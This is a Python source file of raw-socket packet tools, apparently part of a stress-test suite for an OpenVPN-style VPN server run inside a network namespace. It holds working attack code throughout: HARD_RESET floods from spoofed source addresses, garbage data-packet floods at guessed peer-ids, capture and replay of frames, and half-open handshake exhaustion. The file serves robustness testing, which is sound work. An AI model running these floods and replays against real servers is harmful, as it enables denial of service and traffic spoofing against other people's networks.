#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Packet tools of the hostile suite (hostile.sh). Standard library only. Run inside a test
# namespace (ip netns exec); every loop stops at a packet count and at a time limit.
#
#   reset-flood  HARD_RESET_CLIENT_V2 (or V3) frames from N spoofed source addresses (AF_PACKET)
#   data-flood   garbage P_DATA_V2 frames at guessed peer-ids (AF_PACKET)
#   capture      saves the first P_DATA_V2 frame seen on an interface (AF_PACKET)
#   replay       sends a saved frame again from another source address/port (AF_PACKET)
#   halfopen     HARD_RESETs from many UDP ports of one address, each cookie echoed in a P_ACK_V1
#
# Output: `key=value` lines on stdout (sent, seconds, pps, ...), read by hostile.sh.
import argparse
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
OP_HARD_RESET_CLIENT_V2 = 7
OP_HARD_RESET_CLIENT_V3 = 10
OP_HARD_RESET_SERVER_V2 = 8
OP_ACK_V1 = 5
OP_DATA_V2 = 9


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def if_mac(ifname):
    with open("/sys/class/net/%s/address" % ifname) as f:
        return mac(f.read().strip())


def frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, payload):
    """Ethernet/IPv4/UDP frame with both checksums filled in."""
    ulen = 8 + len(payload)
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, random.getrandbits(16), 0x4000, 64, 17, 0,
                               src_ip, dst_ip))
    struct.pack_into("!H", ip, 10, csum(bytes(ip)))
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    c = csum(src_ip + dst_ip + struct.pack("!BBH", 0, 17, ulen) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + bytes(ip) + udp


def raw_socket(ifname, proto=ETH_P_IP):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(proto))
    s.bind((ifname, 0))
    return s


def blast(sock, frames, pps, seconds, max_pkts):
    """Sends frames round-robin, at most pps per second (0: as fast as it goes), until max_pkts
    or seconds. Returns (sent, errors, elapsed)."""
    sent = errors = i = 0
    n = len(frames)
    batch = 32
    t0 = time.monotonic()
    deadline = t0 + seconds
    while sent < max_pkts:
        now = time.monotonic()
        if now >= deadline:
            break
        if pps > 0 and sent >= (now - t0) * pps + batch:
            time.sleep(0.0005)
            continue
        for _ in range(batch):
            try:
                sock.send(frames[i])
                sent += 1
            except OSError:  # ENOBUFS: the veth backlog is full
                errors += 1
            i += 1
            if i == n:
                i = 0
    return sent, errors, time.monotonic() - t0


def report(**kv):
    for k, v in kv.items():
        print("%s=%s" % (k, v))
    sys.stdout.flush()


def random_sources(net, n, seed):
    """n distinct (ip bytes, port) pairs inside net."""
    rnd = random.Random(seed)
    netw = ipaddress.ip_network(net)
    base, size = int(netw.network_address), netw.num_addresses
    seen = set()
    while len(seen) < n:
        seen.add((base + 1 + rnd.randrange(size - 2), rnd.randrange(1024, 65536)))
    return [(struct.pack("!I", a), p) for a, p in seen]


def cmd_reset_flood(a):
    srcs = random_sources(a.net, a.sources, 11)
    my_mac, gw_mac, gw = if_mac(a.iface), mac(a.dst_mac), socket.inet_aton(a.dst)
    frames = []
    for ip, port in srcs:
        sid = os.urandom(8)
        body = b"\x00" + b"\x00\x00\x00\x00"  # no ACKs, message packet-id 0
        if a.wkc_len:  # tls-crypt-v2: a tls-crypt part and a WKc of a consistent length, all random
            pkt = bytes([OP_HARD_RESET_CLIENT_V3 << 3]) + sid + os.urandom(a.random_tail) + \
                  os.urandom(a.wkc_len - 2) + struct.pack("!H", a.wkc_len)
        elif a.random_tail:  # tls-crypt: replay id, tag and ciphertext, all random
            pkt = bytes([OP_HARD_RESET_CLIENT_V2 << 3]) + sid + os.urandom(a.random_tail)
        elif a.hmac_len:  # tls-auth: random HMAC, replay id (counter 1, time now)
            pkt = bytes([OP_HARD_RESET_CLIENT_V2 << 3]) + sid + os.urandom(a.hmac_len) + \
                  struct.pack("!II", 1, int(time.time())) + body
        else:
            pkt = bytes([OP_HARD_RESET_CLIENT_V2 << 3]) + sid + body
        frames.append(frame(my_mac, gw_mac, ip, gw, port, a.port, pkt))
    s = raw_socket(a.iface)
    sent, err, dt = blast(s, frames, a.pps, a.seconds, a.max_packets)
    report(sent=sent, send_errors=err, seconds="%.1f" % dt, pps=int(sent / dt) if dt else 0, sources=len(srcs))


def cmd_data_flood(a):
    my_mac, gw_mac, gw = if_mac(a.iface), mac(a.dst_mac), socket.inet_aton(a.dst)
    src = socket.inet_aton(a.src)
    rnd = random.Random(12)
    frames = []
    for k in range(4096):
        peer = k % a.peers
        body = os.urandom(rnd.randrange(24, 200))  # packet-id, tag, "ciphertext": all random
        pkt = struct.pack("!I", OP_DATA_V2 << 27 | peer) + body
        frames.append(frame(my_mac, gw_mac, src, gw, rnd.randrange(1024, 65536), a.port, pkt))
    s = raw_socket(a.iface)
    sent, err, dt = blast(s, frames, a.pps, a.seconds, a.max_packets)
    report(sent=sent, send_errors=err, seconds="%.1f" % dt, pps=int(sent / dt) if dt else 0, peers=a.peers)


def cmd_capture(a):
    s = raw_socket(a.iface, ETH_P_ALL)  # ETH_P_ALL: seen before a bridge port takes the frame
    dst = socket.inet_aton(a.dst)
    deadline = time.monotonic() + a.seconds
    seen = 0
    while time.monotonic() < deadline and seen < 100000:
        r, _, _ = select.select([s], [], [], max(0.0, deadline - time.monotonic()))
        if not r:
            break
        f = s.recv(4096)
        seen += 1
        if len(f) < 14 + 20 + 8 + 4 or f[12:14] != b"\x08\x00" or f[14 + 9] != 17 or f[14 + 16:14 + 20] != dst:
            continue
        ihl = (f[14] & 0xF) * 4
        u = 14 + ihl
        if struct.unpack("!H", f[u + 2:u + 4])[0] != a.port or f[u + 8] >> 3 != OP_DATA_V2:
            continue
        with open(a.out, "w") as out:
            out.write(f.hex() + "\n")
        report(captured=1, length=len(f) - u - 8, frames_seen=seen)
        return
    report(captured=0, frames_seen=seen)
    sys.exit(1)


def cmd_replay(a):
    with open(a.frame) as f:
        old = bytes.fromhex(f.read().strip())
    ihl = (old[14] & 0xF) * 4
    u = 14 + ihl
    dport = struct.unpack("!H", old[u + 2:u + 4])[0]
    payload = old[u + 8:]
    fr = frame(if_mac(a.iface), old[0:6], socket.inet_aton(a.src), old[14 + 16:14 + 20], a.sport, dport, payload)
    s = raw_socket(a.iface)
    sent = 0
    for _ in range(a.count):
        s.send(fr)
        sent += 1
        time.sleep(a.gap)
    report(sent=sent)


def cmd_halfopen(a):
    """From a.ports UDP sockets of this namespace's address: HARD_RESET, read the server's
    HARD_RESET_SERVER_V2, echo its session id (the cookie) in a P_ACK_V1 (no wrap, §1.4)."""
    gw = (a.dst, a.port)
    replies = acks = 0
    t_end = time.monotonic() + a.seconds
    base = a.base_port
    for start in range(0, a.ports, a.batch):
        if time.monotonic() >= t_end:
            break
        socks = {}
        for k in range(start, min(start + a.batch, a.ports)):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind(("0.0.0.0", base + k))
            s.setblocking(False)
            sid = os.urandom(8)
            s.sendto(bytes([OP_HARD_RESET_CLIENT_V2 << 3]) + sid + b"\x00" + b"\x00\x00\x00\x00", gw)
            socks[s] = sid
        pending = set(socks)
        deadline = min(time.monotonic() + 2.0, t_end)
        while pending and time.monotonic() < deadline:
            r, _, _ = select.select(list(pending), [], [], max(0.0, deadline - time.monotonic()))
            for s in r:
                try:
                    p = s.recv(2048)
                except OSError:
                    continue
                # 40 Ss(8) 01 00000000 Sc(8) 00000000
                if len(p) < 26 or p[0] >> 3 != OP_HARD_RESET_SERVER_V2 or p[9] != 1 or p[14:22] != socks[s]:
                    continue
                replies += 1
                s.sendto(bytes([OP_ACK_V1 << 3]) + socks[s] + b"\x01" + b"\x00\x00\x00\x00" + p[1:9], gw)
                acks += 1
                pending.discard(s)
        for s in socks:
            s.close()
    report(ports=a.ports, replies=replies, acks=acks)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    sub = ap.add_subparsers(dest="cmd", required=True)

    def bounds(p, seconds):
        p.add_argument("--seconds", type=float, default=seconds)
        p.add_argument("--max-packets", type=int, default=10 ** 8)
        p.add_argument("--pps", type=int, default=0, help="0: as fast as possible")

    p = sub.add_parser("reset-flood")
    p.add_argument("--iface", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=1194)
    p.add_argument("--net", default="10.204.0.0/16", help="spoofed sources are drawn from here")
    p.add_argument("--sources", type=int, default=10000)
    p.add_argument("--hmac-len", type=int, default=0, help="tls-auth: random HMAC of this length")
    p.add_argument("--random-tail", type=int, default=0, help="tls-crypt: this many random bytes after the sid")
    p.add_argument("--wkc-len", type=int, default=0, help="tls-crypt-v2: a V3 reset with a random WKc of this length")
    bounds(p, 10)
    p = sub.add_parser("data-flood")
    p.add_argument("--iface", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--port", type=int, default=1194)
    p.add_argument("--peers", type=int, default=16, help="peer-ids 0..N-1 are guessed")
    bounds(p, 10)
    p = sub.add_parser("capture")
    p.add_argument("--iface", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=1194)
    p.add_argument("--out", required=True)
    p.add_argument("--seconds", type=float, default=10)
    p = sub.add_parser("replay")
    p.add_argument("--iface", required=True)
    p.add_argument("--frame", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--sport", type=int, required=True)
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--gap", type=float, default=0.01)
    p = sub.add_parser("halfopen")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=1194)
    p.add_argument("--ports", type=int, default=2000)
    p.add_argument("--base-port", type=int, default=20000)
    p.add_argument("--batch", type=int, default=250)
    p.add_argument("--seconds", type=float, default=60)
    a = ap.parse_args()
    if getattr(a, "max_packets", 1) < 1:
        ap.error("--max-packets must be positive")
    globals()["cmd_" + a.cmd.replace("-", "_")](a)


if __name__ == "__main__":
    main()
